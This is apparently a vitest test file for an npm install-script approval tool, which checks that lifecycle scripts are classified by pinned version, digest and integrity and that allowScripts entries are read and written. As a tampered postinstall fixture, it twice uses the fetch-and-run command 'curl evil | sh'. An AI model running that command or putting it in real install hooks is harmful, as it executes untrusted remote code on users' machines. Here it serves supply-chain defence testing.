import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import type { ScriptDecision } from '../../../src/config/store.js';
import {
  approvalKey,
  classify,
  diffScripts,
  makeApproval,
  makeDenial,
  readAllowScripts,
  writeAllowScripts,
  type ApprovalSources,
} from '../../../src/npm/scripts/approvals.js';
import { makeCandidate, tempDir } from './fixture.js';

const esbuild = makeCandidate({ name: 'esbuild', version: '0.25.0', scripts: { postinstall: 'node install.js' }, scriptsDigest: 'd1', integrity: 'sha512-e1' });
const approvedEsbuild = makeApproval(esbuild, { now: new Date('2025-01-01T00:00:00Z') });
const store = (...ds: ScriptDecision[]): Record<string, ScriptDecision> => Object.fromEntries(ds.map((d) => [d.key, d]));
const src = (decisions: Record<string, ScriptDecision>, allowScripts?: Record<string, unknown>): ApprovalSources => ({
  decisions,
  allowScripts: allowScripts ? readAllowScripts({ allowScripts }) : undefined,
});

describe('classify', () => {
  const table: Array<[string, ReturnType<typeof makeCandidate>, ApprovalSources, string, string | undefined]> = [
    ['pinned approval matches', esbuild, src(store(approvedEsbuild)), 'approved', 'store'],
    ['nothing recorded', esbuild, src({}), 'unreviewed', undefined],
    ['deny by name', esbuild, src(store(makeDenial(esbuild))), 'denied', 'store'],
    ['deny wins over a matching approval', esbuild, src({ ...store(approvedEsbuild), ...store(makeDenial(esbuild)) }), 'denied', 'store'],
    ['changed script text', { ...esbuild, scripts: { postinstall: 'curl evil | sh' }, scriptsDigest: 'd2' }, src(store(approvedEsbuild)), 'changed', 'store'],
    ['changed integrity', { ...esbuild, integrity: 'sha512-other' }, src(store(approvedEsbuild)), 'changed', 'store'],
    ['new version never inherits', { ...esbuild, version: '0.25.1' }, src(store(approvedEsbuild)), 'unreviewed', undefined],
    ['allowScripts pinned', esbuild, src({}, { 'esbuild@0.25.0': true }), 'approved', 'allowScripts'],
    ['allowScripts || list', esbuild, src({}, { 'esbuild@0.24.0 || 0.25.0': true }), 'approved', 'allowScripts'],
    ['allowScripts other version', esbuild, src({}, { 'esbuild@0.24.0': true }), 'unreviewed', undefined],
    ['allowScripts bare name', esbuild, src({}, { esbuild: true }), 'approved', 'allowScripts'],
    ['allowScripts range is ignored', esbuild, src({}, { 'esbuild@^0.25.0': true }), 'unreviewed', undefined],
    ['allowScripts deny wins over allow', esbuild, src({}, { 'esbuild@0.25.0': true, esbuild: false }), 'denied', 'allowScripts'],
    ['allowScripts deny wins over the store', esbuild, src(store(approvedEsbuild), { esbuild: false }), 'denied', 'allowScripts'],
    ['allowScripts never matches bundled deps', { ...esbuild, inBundle: true, source: 'bundled', bundledBy: { location: 'node_modules/p', name: 'p', version: '1.0.0' } }, src({}, { 'esbuild@0.25.0': true }), 'unreviewed', undefined],
    ['store deny covers bundled copies', { ...esbuild, inBundle: true, source: 'bundled', bundledBy: { location: 'node_modules/p', name: 'p', version: '1.0.0' } }, src(store(makeDenial(esbuild))), 'denied', 'store'],
    ['allowScripts never matches aliases', { ...esbuild, alias: 'eb' }, src({}, { 'esbuild@0.25.0': true }), 'unreviewed', undefined],
    ['allowScripts does not cover the root', { ...esbuild, isRoot: true, location: '', source: 'root', path: '/proj' }, src({}, { esbuild: true }), 'unreviewed', undefined],
  ];
  it.each(table)('%s', (_title, candidate, sources, status, via) => {
    const r = classify(candidate, sources);
    expect(r.status).toBe(status);
    expect(r.via).toBe(via);
  });

  it('gives the previous approval and a script diff for a changed script and for a new version', () => {
    const changed = classify({ ...esbuild, scripts: { postinstall: 'curl evil | sh', install: 'x' }, scriptsDigest: 'd2' }, src(store(approvedEsbuild)));
    expect(changed.previous?.key).toBe('esbuild@0.25.0');
    expect(changed.diff).toEqual([
      { event: 'install', change: 'added', after: 'x' },
      { event: 'postinstall', change: 'changed', before: 'node install.js', after: 'curl evil | sh' },
    ]);
    const newer = classify({ ...esbuild, version: '0.26.0', scripts: {}, scriptsDigest: 'd3' }, src(store(approvedEsbuild)));
    expect(newer.status).toBe('unreviewed');
    expect(newer.previous?.key).toBe('esbuild@0.25.0');
    expect(newer.diff).toEqual([{ event: 'postinstall', change: 'removed', before: 'node install.js' }]);
  });

  it('pins to the files run by `node <file>` when recorded', () => {
    const withFile = { ...esbuild, referencedFiles: [{ event: 'postinstall' as const, file: 'install.js', relative: 'install.js', exists: true, sha256: 'aa' }] };
    const approval = makeApproval(withFile);
    expect(classify(withFile, src(store(approval))).status).toBe('approved');
    const edited = { ...withFile, referencedFiles: [{ ...withFile.referencedFiles[0]!, sha256: 'bb' }] };
    const r = classify(edited, src(store(approval)));
    expect(r.status).toBe('changed');
    expect(r.reason).toMatch(/install\.js/);
  });

  it('keys approvals by identity: registry name@version, bundled by parent, root by project path', () => {
    expect(approvalKey(esbuild)).toBe('esbuild@0.25.0');
    expect(approvalKey({ ...esbuild, inBundle: true, bundledBy: { location: 'node_modules/p', name: 'p', version: '2.0.0' } })).toBe('p@2.0.0>esbuild@0.25.0');
    expect(approvalKey({ ...esbuild, isRoot: true, path: '/proj' })).toBe('project:/proj');
    expect(approvalKey({ ...esbuild, source: 'git', resolved: 'git+ssh://git@github.com/x/y.git#abc' })).toBe('esbuild@git+ssh://git@github.com/x/y.git#abc');
  });
});

describe('allowScripts', () => {
  it('reads bare names, exact versions and || lists; drops ranges, tags and non-booleans with a warning', () => {
    const r = readAllowScripts({ allowScripts: { esbuild: true, '@s/x@1.0.0': true, 'nx@21.6.4 || 21.6.5': true, 'core-js': false, 'y@^1': true, 'z@latest': true, w: 'yes' } });
    expect(r.rules).toEqual([
      { key: 'esbuild', name: 'esbuild', versions: 'any', allow: true },
      { key: '@s/x@1.0.0', name: '@s/x', versions: ['1.0.0'], allow: true },
      { key: 'nx@21.6.4 || 21.6.5', name: 'nx', versions: ['21.6.4', '21.6.5'], allow: true },
      { key: 'core-js', name: 'core-js', versions: 'any', allow: false },
    ]);
    expect(r.warnings).toHaveLength(3);
    expect(readAllowScripts({})).toEqual({ rules: [], warnings: [] });
  });

  it('writes a key keeping indent, line endings, trailing newline and key order', () => {
    const dir = tempDir();
    const file = join(dir, 'package.json');
    writeFileSync(file, '{\r\n\t"name": "p",\r\n\t"allowScripts": {\r\n\t\t"a": false\r\n\t},\r\n\t"version": "1.0.0"\r\n}\r\n');
    writeAllowScripts(dir, 'esbuild@0.25.0', true);
    expect(readFileSync(file, 'utf8')).toBe('{\r\n\t"name": "p",\r\n\t"allowScripts": {\r\n\t\t"a": false,\r\n\t\t"esbuild@0.25.0": true\r\n\t},\r\n\t"version": "1.0.0"\r\n}\r\n');
    writeFileSync(file, '{\n    "name": "p"\n}');
    writeAllowScripts(dir, 'core-js', false);
    expect(readFileSync(file, 'utf8')).toBe('{\n    "name": "p",\n    "allowScripts": {\n        "core-js": false\n    }\n}');
  });
});

describe('diffScripts', () => {
  it('says "added" for everything when there was no previous approval', () => {
    expect(diffScripts(undefined, { install: 'a' })).toEqual([{ event: 'install', change: 'added', after: 'a' }]);
  });
});
